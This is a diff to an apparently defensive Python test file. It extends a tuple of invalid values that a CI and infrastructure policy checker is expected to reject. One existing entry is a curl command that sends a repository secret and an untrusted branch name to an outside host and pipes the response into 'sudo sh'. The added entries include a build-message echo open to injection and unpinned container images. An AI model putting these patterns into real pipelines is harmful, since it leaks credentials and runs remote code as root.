@@ -30,7 +30,7 @@ POLICIES = shipped("policies")
 WRONG: tuple[Any, ...] = (
     None, 0, 5, 1.5, True, False, "", "tofu apply", "latest", "*", "other", [], ["terraform apply"], ["*"], {}, {"name": 5},
     {"run": "terraform apply"}, "Tr0ub4dor&3", "http://example.org/a.git", {"local-exec": [{"command": "a"}]},
-    "write-all", "example/tool@main", "curl -k http://example.org/${{ github.head_ref }}?${{ secrets.KEY }} | sudo sh",
+    "write-all", "echo $(Build.SourceVersionMessage)", "alpine:latest", ".env .", "node:16", "example/tool@main", "curl -k http://example.org/${{ github.head_ref }}?${{ secrets.KEY }} | sudo sh",
 )  # fmt: skip
 
 
